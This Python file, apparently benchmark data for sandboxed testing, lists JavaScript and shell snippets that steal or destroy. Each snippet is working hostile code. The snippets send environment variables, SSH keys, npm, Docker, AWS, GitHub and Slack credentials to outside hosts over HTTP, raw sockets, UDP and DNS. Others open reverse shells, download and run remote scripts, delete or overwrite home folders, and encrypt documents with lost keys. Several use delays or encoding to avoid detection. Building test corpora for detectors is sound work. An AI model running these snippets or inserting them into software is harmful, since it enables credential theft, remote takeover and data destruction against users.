"""JavaScript and shell programs that steal or destroy, written for the benchmark. Run in sandboxes alone."""

from __future__ import annotations

JAVASCRIPT = {
    "environment in a POST": """
fetch('https://metrics.example/collect', { method: 'POST', body: JSON.stringify(process.env) });
""",
    "SSH key over TLS": """
const fs = require('node:fs'), https = require('node:https'), os = require('node:os');
const body = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519').toString('base64');
https.request('https://log.example/a', { method: 'PUT' }).end(body);
""",
    "npm token over a raw socket": """
const line = require('node:net').connect(9000, '203.0.113.42');
line.end(require('node:fs').readFileSync(require('node:os').homedir() + '/.npmrc'));
""",
    "token in names of hosts": """
const hex = Buffer.from(process.env.GITLAB_TOKEN).toString('hex');
for (let i = 0; i * 24 < hex.length; i += 1) {
  require('node:dns').lookup(hex.slice(i * 24, i * 24 + 24) + '.' + i + '.q.example', () => {});
}
""",
    "datagram": """
const socket = require('node:dgram').createSocket('udp4');
socket.send(Buffer.from(process.env.SLACK_BOT_TOKEN), 5140, '198.51.100.21', () => socket.close());
""",
    "registry access, compressed": """
const fs = require('node:fs'), os = require('node:os'), zlib = require('node:zlib');
const body = zlib.deflateSync(fs.readFileSync(os.homedir() + '/.docker/config.json'));
fetch('https://img.example/upload', { method: 'POST', body });
""",
    "evaluates what it downloads": """
fetch('https://cdn.example/loader.js').then((answer) => answer.text()).then((text) => eval(text));
""",
    "reverse shell": """
const line = require('node:net').connect(4444, '203.0.113.43', () => {
  const shell = require('node:child_process').spawn('/bin/sh', []);
  line.pipe(shell.stdin); shell.stdout.pipe(line); shell.stderr.pipe(line);
});
""",
    "deletes documents": """
const fs = require('node:fs'), os = require('node:os');
for (const name of ['Documents', 'Pictures']) fs.rmSync(os.homedir() + '/' + name, { recursive: true });
""",
    "encrypts documents": """
const crypto = require('node:crypto'), fs = require('node:fs'), path = require('node:path');
const folder = path.join(require('node:os').homedir(), 'Documents');
for (const name of fs.readdirSync(folder)) {
  const cipher = crypto.createCipheriv('aes-256-cbc', crypto.randomBytes(32), crypto.randomBytes(16));
  const file = path.join(folder, name);
  fs.writeFileSync(file, Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()]));
}
""",
    "waits before it steals": """
setTimeout(() => fetch('https://late.example/', { method: 'POST', body: process.env.HF_TOKEN }), 15000);
""",
}

SHELL = {
    "cloud keys to an address": """
exec 3<>/dev/tcp/203.0.113.44/8080
cat ~/.aws/credentials >&3
""",
    "environment, encoded, in a POST": """
body=$(env | base64 -w0)
exec 3<>/dev/tcp/drop.example/80
head='POST /in HTTP/1.1\\r\\nHost: drop.example\\r\\n'
printf "${head}Content-Length: %s\\r\\n\\r\\n%s" "${#body}" "$body" >&3
read -r -t 5 answer <&3
""",
    "archive of keys": """
tar czf - -C ~ .ssh .kube 2>/dev/null > /dev/tcp/203.0.113.45/9001
""",
    "token in names of hosts": """
hex=$(printf %s "$GITHUB_TOKEN" | od -An -tx1 | tr -d ' \\n')
for i in 0 1 2; do getent hosts "${hex:$((i * 28)):28}.$i.q.example" >/dev/null; done
""",
    "reverse shell": """
bash -i >& /dev/tcp/203.0.113.46/4242 0>&1
""",
    "deletes documents": """
rm -rf ~/Documents ~/Pictures ~/backup
""",
    "overwrites documents": """
find ~/Documents ~/backup -type f | while read -r file; do
  head -c "$(stat -c %s "$file")" /dev/urandom > "$file"
done
""",
    "runs what it downloads": """
exec 3<>/dev/tcp/get.example/80
printf 'GET /install.sh HTTP/1.0\\r\\nHost: get.example\\r\\n\\r\\n' >&3
sed '1,/^\\r*$/d' <&3 | bash
""",
    "waits before it steals": """
sleep 20
cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.47/443
""",
    "rotated letters in a datagram": """
printf %s "$NPM_TOKEN" | tr 'A-Za-z' 'N-ZA-Mn-za-m' > /dev/udp/198.51.100.22/9999
""",
}
